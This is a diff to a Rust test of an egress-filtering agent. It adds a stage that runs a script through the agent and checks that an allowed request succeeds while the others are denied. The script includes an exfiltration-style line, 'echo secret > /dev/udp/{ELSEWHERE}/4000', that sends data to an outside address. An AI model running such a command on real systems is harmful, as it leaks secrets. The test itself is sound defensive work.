@@ -5,6 +5,7 @@ use std::net::IpAddr;
 use anyhow::Result;
 use egress_tests::{
     agent::{Agent, Config},
+    exec::Exec,
     internet::{address4, addresses},
     pod::Pod,
     process::Finished,
@@ -52,6 +53,10 @@ pub(crate) fn show() -> Result<bool> {
     stage.ways_around(&agent)?;
     stage.killed(&mut agent)?;
     drop(agent);
+    stage
+        .screen
+        .heading("One command, with a gateway of its own");
+    stage.one_command()?;
     Ok(screen.table())
 }
 
@@ -275,6 +280,39 @@ impl Stage<'_> {
             should: "0 packets: the kernel goes on",
             did: packets(arrived),
             ok: arrived == 0,
+        });
+        Ok(())
+    }
+
+    fn one_command(&mut self) -> Result<()> {
+        let script = format!(
+            "curl -sS https://allowed.test/; curl -sS https://denied.test/; \
+             echo secret > /dev/udp/{ELSEWHERE}/4000"
+        );
+        let title = "a command of the node";
+        let shown = "egress-agent exec --allow allowed.test -- ./build.sh";
+        self.screen.command("node", title, shown);
+        self.scene.capture.clear();
+        let exec = Exec::new(&self.scene.world, &["--allow", "allowed.test"]);
+        let done = exec.run(&["bash", "-c", &script])?;
+        self.screen.last_lines(&done.text(), 7);
+        let summary = "1 allowed, 2 denied, 1 dropped";
+        let page = done.stdout.contains("name=allowed.test");
+        let arrived = self.arrived(&[nowhere4(7)])?;
+        self.screen.outcome(Outcome {
+            tried: title,
+            should: "the page, the rest denied and summed up",
+            did: format!(
+                "{}, {}, {}",
+                if page { "the page" } else { "no page" },
+                if done.stderr.contains(summary) {
+                    summary
+                } else {
+                    "another summary"
+                },
+                packets(arrived),
+            ),
+            ok: page && done.stderr.contains(summary) && arrived == 0,
         });
         Ok(())
     }
